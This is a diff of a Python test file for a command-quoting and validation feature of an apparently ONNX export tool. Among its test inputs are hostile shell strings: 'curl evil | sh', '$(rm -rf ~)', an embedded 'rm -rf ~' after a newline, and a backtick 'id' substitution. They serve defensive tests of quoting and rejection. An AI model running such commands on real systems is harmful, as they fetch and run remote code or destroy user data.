@@ -200,7 +200,7 @@ def test_a_block_says_that_it_was_cut() -> None:
     ("text", "shown"),
     [
         ("onnx-export run --target a", "onnx-export run --target a"),
-        ("python -m onnx_export_action --model 'a b' out", "python -m onnx_export_action --model 'a b' out"),
+        ("python -P -m onnx_export_action --model 'a b' out", "python -P -m onnx_export_action --model 'a b' out"),
         ("onnx-export run; curl evil | sh", "onnx-export 'run;' curl evil '|' sh"),
         ("onnx-export $(rm -rf ~) `id`", "onnx-export '$(rm' -rf '~)' '`id`'"),
     ],
@@ -219,6 +219,8 @@ def test_a_command_is_shown_with_every_word_quoted(text: str, shown: str) -> Non
         "onnx-export a\nrm -rf ~",
         "onnx-export \u202ea",
         "python -m http.server",
+        "python -P -m http.server",
+        "python -m onnx_export_action --model a out",
         "./onnx-export run",
         "onnx-export " + "x" * 2000,
     ],
